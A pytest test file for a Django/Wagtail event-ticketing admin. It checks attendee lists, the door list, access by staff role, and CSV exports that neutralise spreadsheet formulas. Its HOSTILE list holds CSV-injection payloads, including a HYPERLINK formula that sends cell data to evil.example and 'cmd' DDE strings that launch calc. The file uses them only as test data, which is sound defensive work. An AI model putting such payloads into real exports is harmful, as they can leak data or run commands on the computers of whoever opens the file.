"""Who is coming to an event: the attendee list, its CSV, and the printable door list.

The box office sees every valid ticket of an event with its buyer, by surname, and downloads it
as a CSV that no spreadsheet can run as formulas (nor can Wagtail's own exports); whoever checks
tickets in prints the door list. Every other role is refused, and each page costs the same few
queries for a hundred tickets as for five.
"""

import csv
import io
import itertools
import re

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from wagtail.models import ModelLogEntry

from core.csv import safe_cell
from home.models import HomePage
from tests.factories import (
    home_page,
    make_event,
    make_order,
    make_paid_order,
    make_staff,
    refund_tickets,
    signed_in,
)
from tests.staff.conftest import ROLES
from tests.staff.test_admin_walk import ACCESS, refused
from ticketing import checkin
from ticketing.admin.attendees import LOG_ATTENDEES_DOWNLOADED
from ticketing.models import Event, Order
from ticketing.models import Ticket as TicketModel

pytestmark = pytest.mark.django_db

LIST, CSV, DOOR, CHOOSE = (
    "ticketing_event_attendees",
    "ticketing_event_attendees_csv",
    "ticketing_event_door_list",
    "ticketing_attendees",
)
# What a spreadsheet would run: each of the six starts OWASP names, as a buyer might type it.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Refund")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def url(name, event):
    return reverse(name, args=[event.pk])


def jazz_night():
    return make_event("Harbour Jazz Night", types=[("Adult", "20.00", 200), ("Child", "8.00", 200)])


BUYERS = itertools.count(1)


def buyer(event, name, quantities=None):
    """A paid order of `name`'s, from an address and mailbox of its own (velocity limits)."""
    n = next(BUYERS)
    return make_paid_order(
        event,
        quantities or {"Adult": 1},
        name=name,
        email=f"buyer{n}@example.com",
        ip=f"198.51.{n // 250 % 250}.{n % 250 + 1}",
    )


def parse(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def names_in(html, names):
    """`names` in the order they appear in `html`."""
    return sorted(names, key=lambda name: html.index(name))


@pytest.fixture
def box_office(client):
    return signed_in(make_staff("counter", groups=["Box office"]), client)


# --- What the box office sees ---------------------------------------------------------------


def test_the_list_shows_each_valid_ticket_with_its_buyer_and_nothing_else(box_office):
    event = jazz_night()
    ann = buyer(event, "Ann Example", {"Adult": 2, "Child": 1})
    checked = ann.tickets.filter(ticket_type__name="Child").get()
    assert checkin.check_in(checked.code, event, box_office.user).admitted
    refunded = buyer(event, "Rita Refunded")
    refund_tickets(refunded)
    partly = buyer(event, "Paul Partly", {"Adult": 2})
    void, kept = list(partly.tickets.order_by("id"))
    refund_tickets(partly, [void])
    make_order(event, {"Adult": 1}, name="Peter Pending", email="pending@example.com", ip="192.0.2.9")
    buyer(jazz_night(), "Otto Otherevent")

    html = box_office.get(url(LIST, event)).content.decode()

    for ticket in ann.tickets.all():
        assert ticket.display_code in html
    assert kept.display_code in html
    assert "buyer" in html and ann.email in html and partly.email in html
    assert html.count("Ann Example") == 3 and html.count("Paul Partly") == 1
    checked.refresh_from_db()
    assert timezone.localtime(checked.checked_in_at).strftime("%d %b %Y %H:%M") in html
    assert "4 valid tickets" in html
    for absent in ("Rita Refunded", "Peter Pending", "Otto Otherevent", void.display_code):
        assert absent not in html


SURNAMES = ["ann Zebra", "Mary Le Sueur", "carl adams", "Bob Adams", "Zoë Ávila", "Cher"]
# By the last word, case and accents ignored, then the whole name: the two Adamses by first
# name, "Ávila" under A, "Le Sueur" under S, a single name as its own surname.
BY_SURNAME = ["Bob Adams", "carl adams", "Zoë Ávila", "Cher", "Mary Le Sueur", "ann Zebra"]


def test_the_list_the_csv_and_the_door_list_are_sorted_by_surname(box_office):
    event = jazz_night()
    for name in SURNAMES:
        buyer(event, name)

    assert names_in(box_office.get(url(LIST, event)).content.decode(), SURNAMES) == BY_SURNAME
    assert names_in(box_office.get(url(DOOR, event)).content.decode(), SURNAMES) == BY_SURNAME
    assert [row[0] for row in parse(box_office.get(url(CSV, event)))[1:]] == BY_SURNAME


def test_the_csv_holds_the_list_with_a_header(box_office):
    event = jazz_night()
    ann = buyer(event, "Ann Example", {"Adult": 1, "Child": 1})
    adult = ann.tickets.get(ticket_type__name="Adult")
    checkin.check_in(adult.code, event, box_office.user)
    adult.refresh_from_db()

    response = box_office.get(url(CSV, event))

    assert response.status_code == 200
    assert (
        response["Content-Disposition"]
        == f'attachment; filename="attendees-{event.pk}-harbour-jazz-night.csv"'
    )
    header, *rows = parse(response)
    assert header == ["Name", "E-mail", "Ticket type", "Ticket code", "Order", "Checked in", "Attendee"]
    checked_in = timezone.localtime(adult.checked_in_at).strftime("%Y-%m-%d %H:%M")
    child = ann.tickets.get(ticket_type__name="Child")
    assert rows == [
        ["Ann Example", ann.email, "Adult", adult.display_code, ann.reference, checked_in, ""],
        ["Ann Example", ann.email, "Child", child.display_code, ann.reference, "", ""],
    ]


def test_a_download_is_in_the_events_history_without_the_buyers_details(box_office):
    event = jazz_night()
    ann = buyer(event, "Ann Example", {"Adult": 2})

    box_office.get(url(CSV, event))

    entry = ModelLogEntry.objects.for_instance(event).get(action=LOG_ATTENDEES_DOWNLOADED)
    assert entry.user == box_office.user
    assert entry.data == {"tickets": 2}
    recorded = str(entry.data) + entry.label + entry.message
    for private in (ann.name, ann.email, *ann.tickets.values_list("code", flat=True)):
        assert private not in recorded
    assert entry.message == "Attendee list downloaded (CSV)"


# --- CSV safety -------------------------------------------------------------------------------


def test_every_formula_start_in_a_buyers_name_or_a_ticket_type_is_written_as_text(box_office):
    event = make_event("Formula Night", types=[("-Early bird", "20.00", 100)])
    hostile_orders = []
    for n, name in enumerate(HOSTILE):
        order = buyer(event, f"Placeholder {n}", {"-Early bird": 1})
        # As typed into the order by staff (the checkout form trims a leading tab or CR).
        Order.objects.filter(pk=order.pk).update(name=name)
        hostile_orders.append(order)
    buyer(event, "Jean-Paul Sartre-Smith", {"-Early bird": 1})

    rows = parse(box_office.get(url(CSV, event)))[1:]

    names = {row[0] for row in rows}
    for name in HOSTILE:
        assert "'" + name in names, f"{name!r} was not neutralised"
        assert name not in names
    # Only the first character matters: dashes inside a value are the value.
    assert "Jean-Paul Sartre-Smith" in names
    assert {row[2] for row in rows} == {"'-Early bird"}
    # Codes and references have dashes inside only, and stay as they are.
    for row in rows:
        assert re.fullmatch(r"([2-9A-Z]{4}-){3}[2-9A-Z]{4}", row[3])
        assert row[4].startswith("JE-")


def test_safe_cell_leaves_numbers_and_ordinary_text_alone():
    assert [safe_cell(value) for value in HOSTILE] == ["'" + value for value in HOSTILE]
    assert safe_cell("Ann-Marie") == "Ann-Marie"
    assert safe_cell(" =1+1") == " =1+1"  # no spreadsheet reads a space-led cell as a formula
    assert safe_cell(-5) == -5
    assert safe_cell(None) == ""
    assert safe_cell("") == ""


def test_wagtails_own_csv_export_of_the_site_history_neutralises_formulas(client):
    superuser = make_staff("root", superuser=True)
    signed_in(superuser, client)
    home = home_page()
    titles = [f"{start} page" for start in HOSTILE] + ["Jean-Paul's page"]
    for n, title in enumerate(titles):
        page = home.add_child(instance=HomePage(title=title, slug=f"formula-{n}"))
        page.save_revision(user=superuser).publish(user=superuser)

    response = client.get(reverse("wagtailadmin_reports:site_history") + "?export=csv")

    assert response.status_code == 200
    cells = {cell for row in parse(response) for cell in row}
    for title in titles[:-1]:
        assert "'" + title in cells, f"{title!r} was not neutralised"
        assert title not in cells
    assert "Jean-Paul's page" in cells


# --- Who may see what -------------------------------------------------------------------------


@pytest.mark.parametrize("role", ROLES)
def test_each_role_opens_only_the_lists_of_its_job(role, signed_in_as):
    event = jazz_night()
    ann = buyer(event, "Ann Example")
    client = signed_in_as(role)
    for name in (LIST, CSV, DOOR):
        response = client.get(url(name, event))
        if role in ACCESS[name]:
            assert response.status_code == 200, (role, name)
        else:
            assert refused(response), (role, name, response.status_code)
            assert ann.email.encode() not in response.content
            assert b"Ann Example" not in response.content
    choose = client.get(reverse(CHOOSE))
    assert (choose.status_code == 200) == (role in ACCESS[CHOOSE]), role
    if choose.status_code == 200:
        html = choose.content.decode()
        assert (url(LIST, event) in html) == (role in ACCESS[LIST])
        assert (url(DOOR, event) in html) == (role in ACCESS[DOOR])
    assert ModelLogEntry.objects.filter(action=LOG_ATTENDEES_DOWNLOADED).count() == (
        1 if role in ACCESS[CSV] else 0
    )


@pytest.mark.parametrize("role", ROLES)
def test_the_attendees_menu_entry_is_there_for_those_who_may_open_it(role, signed_in_as):
    client = signed_in_as(role)
    account = client.get(reverse("wagtailadmin_account"))
    if account.status_code != 200:  # no job in the admin: no menu at all
        assert role not in ACCESS[CHOOSE]
        return
    assert (reverse(CHOOSE) in account.content.decode()) == (role in ACCESS[CHOOSE])


def test_the_events_list_links_each_event_to_its_attendees_for_those_who_may_see_them(client):
    event = jazz_night()
    signed_in(make_staff("root", superuser=True), client)
    assert url(LIST, event) in client.get(reverse("ticketing_event_modeladmin_index")).content.decode()
    signed_in(make_staff("editor", groups=["Editors"]), client)
    listing = client.get(reverse("ticketing_event_modeladmin_index"))
    assert listing.status_code == 200
    assert url(LIST, event) not in listing.content.decode()


# --- The door list ----------------------------------------------------------------------------


def test_the_door_list_has_a_box_per_ticket_and_only_the_end_of_each_code(client):
    event = jazz_night()
    ann = buyer(event, "Ann Example", {"Adult": 1, "Child": 1})
    admitted = ann.tickets.get(ticket_type__name="Adult")
    door = signed_in(make_staff("steward", groups=["Door staff"]), client)
    checkin.check_in(admitted.code, event, door.user)
    admitted.refresh_from_db()

    html = door.get(url(DOOR, event)).content.decode()

    assert html.count('class="door-list__box"') == 2
    for ticket in ann.tickets.all():
        assert f"<code>{ticket.code[-4:]}</code>" in html
        # A sheet left on a table must not hand out codes the scanner would take.
        assert ticket.code not in html and ticket.display_code not in html
    assert f"in {timezone.localtime(admitted.checked_in_at):%H:%M}" in html
    assert ann.email not in html
    assert "css/door-list.css" in html


# --- A fixed number of queries ----------------------------------------------------------------


def queries_for(client, path):
    client.get(path)  # sessions and permissions cached, as on any later visit
    with CaptureQueriesContext(connection) as queries:
        response = client.get(path)
    assert response.status_code == 200
    return len(queries)


def test_each_page_takes_as_many_queries_for_100_tickets_as_for_5(box_office):
    small, large = jazz_night(), jazz_night()
    buyer(small, "Ann Example", {"Adult": 3, "Child": 2})
    for n in range(20):  # twenty buyers of five tickets each, some checked in
        order = buyer(large, f"Buyer Number{n}", {"Adult": 3, "Child": 2})
        if n % 2:
            checkin.check_in(order.tickets.first().code, large, box_office.user)
    assert TicketModel.objects.filter(order__event=large).count() == 100

    for name in (LIST, CSV, DOOR):
        assert queries_for(box_office, url(name, large)) == queries_for(box_office, url(name, small)), name
    choose = reverse(CHOOSE)
    few = queries_for(box_office, choose)
    for n in range(5):
        buyer(make_event(f"Another night {n}"), "Ann Example", {"Standard": 1})
    assert queries_for(box_office, choose) == few


# --- Bad input --------------------------------------------------------------------------------


@pytest.mark.parametrize("name", [LIST, CSV, DOOR])
def test_an_unknown_event_is_not_found_for_staff_and_refused_for_others(name, box_office, client):
    missing = (Event.objects.order_by("-pk").values_list("pk", flat=True).first() or 0) + 1000
    path = reverse(name, args=[missing])
    assert box_office.get(path).status_code == 404
    assert box_office.get(path.replace(str(missing), "9" * 30)).status_code == 404
    signed_in(make_staff("accounts", groups=["Finance"]), client)
    assert refused(client.get(path))


# Junk a page ignores (a page number that is not one shows the nearest page), and junk the
# site refuses before any view (a NUL byte: 400).
JUNK = [
    ("?p=abc", 200),
    ("?p=-1", 200),
    ("?p=0", 200),
    ("?p=999999999999999999999999", 200),
    ("?export=csv", 200),
    ("?export=xlsx&p=%FF%FE", 200),
    ("?" + "x" * 5000, 200),
    ("?p=1&p=2&ordering=-name;DROP", 200),
    ("?p=%00", 400),
    ("?%00=%00", 400),
]


@pytest.mark.parametrize(("query", "status"), JUNK)
def test_junk_in_the_query_string_never_fails_and_changes_nothing(query, status, box_office):
    event = jazz_night()
    buyer(event, "Ann Example")
    for name in (LIST, DOOR):
        assert box_office.get(url(name, event) + query).status_code == status, name
    assert box_office.get(reverse(CHOOSE) + query).status_code == status
    assert box_office.get(url(CSV, event) + query).status_code == status
    # Only a CSV actually sent is recorded.
    assert ModelLogEntry.objects.filter(action=LOG_ATTENDEES_DOWNLOADED).count() == (status == 200)


def test_the_pages_take_no_post(box_office):
    event = jazz_night()
    for name in (LIST, CSV, DOOR):
        assert box_office.post(url(name, event), {"name": "x"}).status_code == 405
    assert box_office.post(reverse(CHOOSE)).status_code == 405
